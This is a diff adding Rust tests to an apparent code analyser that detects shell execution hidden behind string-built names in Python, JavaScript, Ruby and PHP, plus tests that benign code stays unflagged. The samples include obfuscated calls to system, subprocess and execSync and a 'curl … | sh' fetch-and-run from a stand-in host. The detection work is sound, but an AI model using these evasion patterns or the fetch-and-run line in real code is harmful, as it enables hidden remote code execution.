@@ -174,3 +174,53 @@ fn a_path_held_in_a_variable_is_written_through_a_nested_open() {
         f.writes
     );
 }
+
+#[test]
+fn names_built_from_strings_are_read_as_the_names() {
+    // round 14's probe (tests/fixtures/redteam14, class pyconcat)
+    let f = facts(
+        Lang::Python,
+        "getattr(__import__('o'+'s'), 'sy'+'stem')('curl -s https://x.example/p | sh')",
+    );
+    assert_eq!(f.shell, vec!["curl -s https://x.example/p | sh"]);
+    let f = facts(
+        Lang::Python,
+        "import importlib; importlib.import_module('sub'+'process').run(['sh','-c','id'])",
+    );
+    assert_eq!(f.argv, vec![vec!["sh", "-c", "id"]]);
+    let f = facts(
+        Lang::Python,
+        "m=__import__(''.join(['o','s'])); getattr(m,'sys' 'tem')('id')",
+    );
+    assert_eq!(f.shell, vec!["id"]);
+    let f = facts(
+        Lang::Js,
+        "require('chi'+'ld_pro'+'cess')['ex'+'ecSync']('id')",
+    );
+    assert_eq!(f.shell, vec!["id"]);
+    let f = facts(Lang::Ruby, "Kernel.send('sys'+'tem', 'id')");
+    assert_eq!(f.shell, vec!["id"]);
+    let f = facts(Lang::Ruby, "Kernel.public_send(:system, 'id')");
+    assert_eq!(f.shell, vec!["id"]);
+    let f = facts(Lang::Php, "call_user_func('sys'.'tem', 'id');");
+    assert_eq!(f.shell, vec!["id"]);
+}
+
+#[test]
+fn names_built_from_strings_for_honest_work_stay_quiet() {
+    let f = facts(
+        Lang::Python,
+        "import importlib; m = importlib.import_module('json'); print(getattr(m, 'dumps')({}))",
+    );
+    assert!(f.shell.is_empty() && f.reads.is_empty(), "{f:?}");
+    let f = facts(Lang::Python, "print(', '.join(['a', 'b']), 'x' 'y')");
+    assert!(f.shell.is_empty(), "{f:?}");
+    let f = facts(
+        Lang::Js,
+        "const o={a:1}; console.log(o['a'], o['to'+'String']())",
+    );
+    assert!(f.shell.is_empty(), "{f:?}");
+    // a name that is no identifier is left alone
+    let f = facts(Lang::Python, "getattr(x, 'a b')");
+    assert!(f.shell.is_empty(), "{f:?}");
+}
